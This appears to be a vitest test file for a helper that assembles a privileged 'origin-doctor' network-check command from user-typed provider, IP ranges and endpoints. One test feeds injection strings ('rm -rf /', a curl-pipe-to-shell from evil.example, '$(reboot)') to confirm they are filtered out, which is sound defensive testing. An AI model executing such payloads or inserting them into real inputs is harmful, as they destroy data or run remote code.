import { expect, test } from 'vitest';
import { observeCommand } from '../../../shared/net/observe-command';

test("the Origin step's command: the session's provider, ranges and ports, filled in", () => {
  expect(
    observeCommand({
      provider: 'cloudflare',
      ranges: ['198.18.200.0/24', ' 2001:db8:200::/64 '],
      endpoints: ['https://203.0.113.7:443', 'http://[2001:db8::7]:8080', 'https://203.0.113.8:443'],
    }),
  ).toBe(
    'sudo origin-doctor origin-check --observe 60 --provider cloudflare --source-range 198.18.200.0/24 --source-range 2001:db8:200::/64 --port 443 --port 8080 --json origin.json',
  );
});

test('near miss: typed text that is not a range, provider or endpoint never reaches the command', () => {
  const c = observeCommand({
    provider: 'evil; rm -rf /',
    ranges: ['198.18.200.0/24; curl evil.example|sh', '198.18.201.0/24'],
    endpoints: ['$(reboot)', 'not a url'],
  })!;
  expect(c).toBe(
    'sudo origin-doctor origin-check --observe 60 --source-range 198.18.201.0/24 --port 80 --port 443 --json origin.json',
  );
  expect(observeCommand({ provider: '', ranges: ['junk'], endpoints: [] })).toBeNull();
});
